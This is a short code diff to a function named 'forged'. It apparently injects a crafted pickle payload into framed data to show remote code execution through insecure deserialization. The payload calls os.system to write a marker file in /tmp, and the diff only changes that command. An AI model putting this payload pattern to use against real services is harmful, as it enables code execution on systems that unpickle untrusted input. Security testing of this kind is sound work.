@@ -11,7 +11,7 @@ def forged(descriptor, data):
     if descriptor == 3 and len(data) > 8:
         size = int.from_bytes(data[:4], "big")
         header, picture = data[8 : 8 + size], data[8 + size :]
-        picture = b"cos\nsystem\n(S'touch /tmp/left_by_attacker'\ntR."
+        picture = b"cos\nsystem\n(S'echo x > /tmp/left_by_attacker'\ntR."
         os.close(1)
         left = len(header).to_bytes(4, "big") + len(picture).to_bytes(4, "big") + header + picture
         while left:
